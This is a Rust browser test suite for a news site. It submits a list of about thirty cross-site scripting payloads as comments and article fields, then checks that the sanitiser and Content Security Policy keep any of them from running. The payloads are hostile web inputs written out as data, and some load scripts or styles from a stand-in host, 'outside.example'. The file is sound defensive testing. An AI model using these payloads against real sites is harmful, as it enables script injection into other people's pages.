//! Hostile texts, posted over HTTP as readers and staff may, looked at in Chromium (requirements S3).

use chrono::TimeDelta;
use stet::core::status::Role;

use crate::checks;
use crate::driver::Chromium;
use crate::support::browser::Browser;
use crate::support::conversation::{self, ARTICLE, approve_all, signed_in, sql};
use crate::support::site::Site;

/// Each sets `window.__xss` or asks another host if it gets through: one of each family (tags, handlers, addresses,
/// broken nesting, foreign content, mutation, comments, Markdown's own syntax, templates, CSS, encodings).
const PAYLOADS: &[&str] = &[
    "<script>window.__xss=1</script>",
    "\"><script src=//outside.example/x.js></script>",
    "<img src=x onerror=window.__xss=1>",
    "<img/src/onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:window.__xss=1'/></svg>#x\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__xss=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "<iframe src=\"javascript:parent.__xss=1\"></iframe>",
    "<object data=\"data:text/html,<script>parent.__xss=1</script>\"></object><embed src=//outside.example/x.swf>",
    "<details open ontoggle=window.__xss=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.__xss=1><select autofocus onfocus=window.__xss=1>",
    "<style>@import '//outside.example/x.css'; *{background:url(//outside.example/bg)}</style>",
    "<link rel=stylesheet href=//outside.example/x.css><base href=//outside.example/><meta http-equiv=refresh content='0;url=//outside.example/'>",
    "<video poster=//outside.example/p><source onerror=window.__xss=1></video><audio src=x onerror=window.__xss=1>",
    "<div style=\"background:url(//outside.example/s)\" onmouseover=window.__xss=1>x</div>",
    "</textarea></title></style></main></body></html><img src=x onerror=window.__xss=1>",
    "<!--><img src=x onerror=window.__xss=1>--!><img src=x onerror=window.__xss=1>",
    "<![CDATA[><img src=x onerror=window.__xss=1>]]><?xml x?><img src=x onerror=window.__xss=1>",
    "[press](javascript:window.__xss=1) [press](java\tscript:window.__xss=1) [press](&#106;avascript:window.__xss=1)",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==) <javascript:window.__xss=1>",
    "![x](//outside.example/p.png \"onerror=window.__xss=1\") ![x\" onerror=\"window.__xss=1](x)",
    "[x]: javascript:window.__xss=1 \"t\"\n\n[x] `<img src=x onerror=window.__xss=1>` ```\"><img src=x onerror=window.__xss=1>",
    "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1} <%= window.__xss=1 %>",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E &lt;script&gt;window.__xss=1&lt;/script&gt; \u{ff1c}script\u{ff1e}window.__xss=1",
    "' onfocus=window.__xss=1 autofocus x='\" onfocus=window.__xss=1 autofocus x=\"` onfocus=window.__xss=1",
];

/// Nothing ran, nothing left, and the page still has its skeleton.
async fn harmless(browser: &Chromium, path: &str) {
    browser.open(path).await;
    // What waits for a pointer, a focus or an animation gets one.
    browser
        .script(
            "for (const element of document.querySelectorAll('main *'))
                for (const kind of ['mouseover', 'mouseenter', 'focus', 'toggle', 'beginEvent', 'error', 'load', 'animationstart'])
                    element.dispatchEvent(new Event(kind));",
        )
        .await;
    let ran = browser.script("return window.__xss === undefined ? '' : String(window.__xss)").await;
    assert_eq!(ran, "", "something ran on {path}");
    let found = browser
        .script(
            "const wrong = [];
             for (const element of document.querySelectorAll('*')) {
                 for (const { name, value } of element.attributes) {
                     if (name.startsWith('on')) wrong.push(element.outerHTML.slice(0, 120));
                     if (['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href'].includes(name)
                         && /^[\\s\\u0000-\\u001f]*(javascript|vbscript|data):/i.test(value)) wrong.push(element.outerHTML.slice(0, 120));
                 }
                 if (element.matches('script:not([src]):not([type=\"application/ld+json\"]), iframe, object, embed, base, meta[http-equiv], style'))
                     wrong.push(element.outerHTML.slice(0, 120));
             }
             for (const once of ['html', 'head', 'body', 'main', 'h1'])
                 if (document.querySelectorAll(once).length !== 1) wrong.push(`${document.querySelectorAll(once).length} ${once}`);
             if (!document.body.lastElementChild.matches('[data-status], .gate')) wrong.push('the page does not end where it should');
             return wrong;",
        )
        .await;
    assert_eq!(found.as_array().map(Vec::len), Some(0), "{path}: {found:#}");
    checks::quiet(browser).await;
}

/// Posts every payload as a comment, every second one also as a name, each by another reader.
async fn write_all(site: &Site) {
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let reader = site.browser();
        let page = reader.look(ARTICLE).await;
        site.later(TimeDelta::seconds(61));
        let form = page
            .form("#reply form")
            .fill("body", &format!("Number {number}: {payload}"))
            .fill("name", &format!("N{number}"))
            .fill("email", &format!("reader{number}@mail.example"))
            .choose("act", "post");
        let named = payload.chars().filter(|letter| !letter.is_control()).take(60).collect::<String>();
        let answer = reader.submit(&form.clone().fill("name", &named)).await;
        // A name with an address in it is refused; the text is then posted under an ordinary one.
        let answer = if answer.status == 303 { answer } else { reader.submit(&form).await };
        assert_eq!(answer.status, 303, "{payload}: {}", answer.text);
    }
}

/// Publishes every payload in an article's fields.
async fn publish_all(editor: &Browser) {
    let form = editor.get("/desk/articles/new").await.form("form.desk");
    let form = form
        .fill("title", PAYLOADS[1])
        .fill("slug", "hostile")
        .fill("dek", PAYLOADS[2])
        .fill("takeaways", PAYLOADS[20])
        .fill("description", PAYLOADS[29])
        .fill("body", &PAYLOADS.iter().map(|payload| format!("{payload}\n\n")).collect::<String>());
    let answer = editor.submit(&form.clone().choose("act", "publish")).await;
    if answer.status != 303 {
        let again =
            answer.form("form.desk").fill("override_reason", "To see that it does no harm.").choose("act", "publish");
        let answer = editor.submit(&again).await;
        assert_eq!(answer.status, 303, "{}", answer.text);
    }
}

async fn hostile_site() -> Site {
    let site = conversation::site().await;
    write_all(&site).await;
    let held = site.one::<i64>("select count(*) from comments").await;
    assert_eq!(usize::try_from(held).unwrap(), PAYLOADS.len());
    site
}

const ARTICLES: [&str; 6] = ["/hostile", "/", "/latest", "/desk/articles", "/feed.xml", "/sitemap.xml"];

#[tokio::test(flavor = "multi_thread")]
async fn hostile_comments_do_nothing_with_and_without_the_content_policy() {
    let site = hostile_site().await;
    let moderator = site.member("Ines Okafor", Role::Moderator).await;
    let Some(browser) = Chromium::start(&site).await else { return };
    crate::desk_pages::sign_in(&browser, &moderator).await;
    for queue in ["/desk/comments?queue=held", "/desk/comments?queue=spam"] {
        harmless(&browser, queue).await;
    }
    let ids: i64 = site.one("select max(id) from comments").await;
    for id in (1..=ids).step_by(3) {
        harmless(&browser, &format!("/desk/comments?queue=held&open={id}")).await;
    }
    sql(&site, "update comments set status = 'held' where status = 'spam'").await;
    approve_all(&signed_in(&site, 2).await).await;
    for bypass in [false, true] {
        if bypass {
            browser.without_policy().await;
        }
        for path in [ARTICLE, "/desk/comments?queue=approved", "/night-shift?reply=1", "/"] {
            harmless(&browser, path).await;
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_articles_do_nothing_with_and_without_the_content_policy() {
    let site = conversation::site().await;
    let editor = site.member("Ines Okafor", Role::Editor).await;
    publish_all(&site.signed_in(&editor).await).await;
    let Some(browser) = Chromium::start(&site).await else { return };
    crate::desk_pages::sign_in(&browser, &editor).await;
    let id: i64 = site.one("select max(id) from articles").await;
    for bypass in [false, true] {
        if bypass {
            browser.without_policy().await;
        }
        for path in ARTICLES.iter().filter(|path| !path.ends_with(".xml")) {
            harmless(&browser, path).await;
        }
        harmless(&browser, &format!("/desk/articles/{id}")).await;
        harmless(&browser, &format!("/desk/articles/{id}/revisions")).await;
    }
    for path in ARTICLES.iter().filter(|path| path.ends_with(".xml")) {
        browser.open(path).await;
        assert!(browser.script("return window.__xss === undefined").await == true, "{path}");
    }
    checks::quiet(&browser).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn behind_the_sanitiser_the_policy_alone_stops_them() {
    let site = conversation::site().await;
    let Some(browser) = Chromium::start(&site).await else { return };
    // As if the sanitiser had let everything through. No policy can stop a page from being left, so not that one.
    let raw: String = PAYLOADS
        .iter()
        .filter(|payload| !payload.contains("refresh"))
        .map(|payload| format!("<div>{payload}</div>"))
        .collect();
    sql(&site, &format!("update revision_renderings set html = '{}'", raw.replace('\'', "''"))).await;
    browser.open(ARTICLE).await;
    assert!(browser.has("main svg").await, "the raw text did reach the page");
    assert!(browser.script("return window.__xss === undefined").await == true, "something ran");
    assert!(checks::outside_answers(&browser).await.is_empty(), "{:?}", checks::outside_answers(&browser).await);
    assert!(checks::dialogs(&browser).await.is_empty());
    assert!(checks::complaints(&browser).await.iter().any(|line| line.contains("Content Security Policy")));
}
